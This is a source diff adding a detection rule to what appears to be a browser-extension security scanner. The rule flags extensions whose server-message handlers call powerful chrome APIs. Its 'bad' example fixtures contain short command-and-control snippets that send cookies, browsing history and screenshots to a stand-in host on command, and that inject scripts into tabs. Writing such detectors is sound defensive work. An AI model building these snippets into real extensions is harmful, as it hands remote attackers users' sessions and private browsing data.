@@ -1,0 +1,96 @@
+import { callsOf, GuardKind, type ScriptFacts } from '../../facts/javascript/query.ts';
+import { defineRule } from '../../rule.ts';
+import { backgroundExample, checkScripts } from './checkScripts.ts';
+import { isFromServer } from './network.ts';
+import { originsOf } from './origins.ts';
+import { usageOf } from './usage.ts';
+
+/** Powers that nobody gives away to a server without meaning it. */
+const POWERS = ['chrome.tabs.executeScript', 'chrome.scripting.executeScript', 'chrome.cookies.getAll', 'chrome.history.search', 'chrome.tabs.captureVisibleTab', 'chrome.management.setEnabled', 'chrome.proxy.settings.set', 'chrome.debugger.sendCommand', 'chrome.tabs.create', 'chrome.tabs.update', 'chrome.downloads.download', 'chrome.browsingData.remove', 'chrome.windows.create', 'chrome.runtime.sendNativeMessage', 'fetch', 'chrome.tabs.query', 'chrome.bookmarks.getTree'];
+const WEAK: ReadonlySet<string> = new Set(['fetch', 'chrome.tabs.query', 'chrome.tabs.create', 'chrome.tabs.update', 'chrome.windows.create']);
+
+export const commandChannel = defineRule({
+  id: 'command-channel',
+  title: 'A server gives the extension commands',
+  severity: 'high',
+  confidence: 'high',
+  category: 'code',
+  applies: 'extension',
+  cwe: 'CWE-506',
+  references: ['https://attack.mitre.org/techniques/T1071/001/', 'https://attack.mitre.org/techniques/T1176/'],
+  why: 'Somebody at the other end can use the browser of each person as if it were theirs: read, click, open pages, take cookies. This is how banking trojans in extensions work.',
+  remedy: 'Let a server send data for one purpose. What the extension does must be decided in its own code.',
+  check: checkScripts(function* ({ script, hit }) {
+    const channels = callsOf(script, 'WebSocket', 'EventSource', 'io', 'io.connect', 'mqtt.connect', 'chrome.gcm.onMessage.addListener', 'chrome.instanceID.getToken');
+    if (channels.length === 0) return;
+    const handlers = handlersOf(script, new Set(channels.map((call) => call.value)));
+    const used = new Map<string, number>();
+    for (const path of POWERS) {
+      for (const call of callsOf(script, path)) {
+        // Named by a message: the call stands in what handles it, under a comparison with a command's name.
+        if (handlers.some(({ start, end }) => call.pos >= start && call.pos < end)) used.set(path, used.get(path) ?? call.value);
+      }
+    }
+    const strong = [...used.keys()].filter((path) => !WEAK.has(path));
+    const commands = commandNames(script, handlers);
+    const first = channels[0] as { value: number };
+    if (strong.length >= 2 || (strong.length >= 1 && used.size >= 3)) yield hit(first.value, { severity: 'critical', message: `Messages of the server lead to ${[...used.keys()].join(', ')}.` });
+    else if (strong.length === 1 || (used.size >= 2 && commands >= 3)) yield hit(first.value, { confidence: 'medium', message: `Messages of the server lead to ${[...used.keys()].join(', ')}.` });
+    else for (const call of callsOf(script, 'chrome.tabs.create', 'chrome.tabs.update')) {
+      if (channels.some((channel) => call.args.some((arg) => originsOf(script, arg).has(channel.value))) && call.args.some((arg) => isFromServer(script, arg))) yield hit(call.value, { severity: 'medium', confidence: 'medium', message: 'A message of the server decides which page is opened.' });
+    }
+  }),
+  examples: {
+    bad: [
+      backgroundExample('const ws = new WebSocket("wss://x.example/c"); ws.onmessage = async (e) => { const m = JSON.parse(e.data); switch (m.cmd) { case "cookies": ws.send(JSON.stringify(await chrome.cookies.getAll({}))); break; case "history": chrome.history.search({ text: "" }, (h) => ws.send(JSON.stringify(h))); break; case "open": chrome.tabs.create({ url: m.url }); break; } };'),
+      backgroundExample('const ws = new WebSocket(host); ws.addEventListener("message", (e) => run(JSON.parse(e.data))); function run(m) { if (m.type === "inject") chrome.scripting.executeScript({ target: { tabId: m.tab }, files: [m.file] }); if (m.type === "shot") chrome.tabs.captureVisibleTab((u) => ws.send(u)); }'),
+      backgroundExample('const s = new WebSocket("wss://x.example"); s.onmessage = (e) => { chrome.tabs.create({ url: JSON.parse(e.data).url }); };'),
+    ],
+    good: [
+      backgroundExample('const ws = new WebSocket("wss://chat.example.com"); ws.onmessage = (e) => { chrome.notifications.create({ type: "basic", title: "New", message: JSON.parse(e.data).text }); };'),
+      backgroundExample('const ws = new WebSocket("ws://localhost:35729"); ws.onmessage = () => chrome.runtime.reload(); chrome.tabs.query({ active: true }, (t) => show(t)); chrome.cookies.getAll({}, count); chrome.history.search({ text: "" }, list);'),
+    ],
+  },
+});
+
+/** Functions that run when a channel says something, and those that they call with it. */
+function handlersOf(script: ScriptFacts, channels: ReadonlySet<number>): { start: number; end: number }[] {
+  const usage = usageOf(script);
+  const fns = new Set<number>();
+  const leads = (value: number): boolean => {
+    const origins = originsOf(script, value);
+    for (const channel of channels) if (origins.has(channel)) return true;
+    return false;
+  };
+  script.functions.forEach((_, fn) => {
+    for (const at of usage.stored.get(fn) ?? []) if (script.strings[script.writes[at + 1] as number] === 'onmessage' && leads(script.writes[at] as number)) fns.add(fn);
+    for (const call of usage.takers.get(fn) ?? []) {
+      const name = script.op[script.a[call] as number] === 4 ? script.strings[script.b[script.a[call] as number] as number] : '';
+      if ((name === 'addEventListener' || name === 'on') && leads(script.a[script.a[call] as number] as number)) fns.add(fn);
+      if (name === 'addListener' && channels.has(call)) fns.add(fn);
+    }
+  });
+  // Called inside them: two steps.
+  for (let step = 0; step < 2; step++) {
+    for (const fn of [...fns]) {
+      const { start, end } = script.functions[fn] as { start: number; end: number };
+      script.functions.forEach((_, other) => {
+        if ((usage.callers.get(other) ?? []).some((call) => (script.pos[call] as number) >= start && (script.pos[call] as number) < end)) fns.add(other);
+      });
+    }
+  }
+  return [...fns].map((fn) => script.functions[fn] as { start: number; end: number });
+}
+
+/** Names of commands that are compared inside these functions. */
+function commandNames(script: ScriptFacts, ranges: readonly { start: number; end: number }[]): number {
+  const names = new Set<number>();
+  for (let at = 0; at < script.guards.length; at += 5) {
+    if (script.guards[at + 1] !== GuardKind.equals) continue;
+    const start = script.guards[at + 2] as number;
+    if (!ranges.some((range) => start >= range.start && start < range.end)) continue;
+    const list = script.guards[at + 4] as number;
+    for (let n = 1; n <= (script.lists[list] as number); n++) names.add(script.lists[list + n] as number);
+  }
+  return names.size;
+}
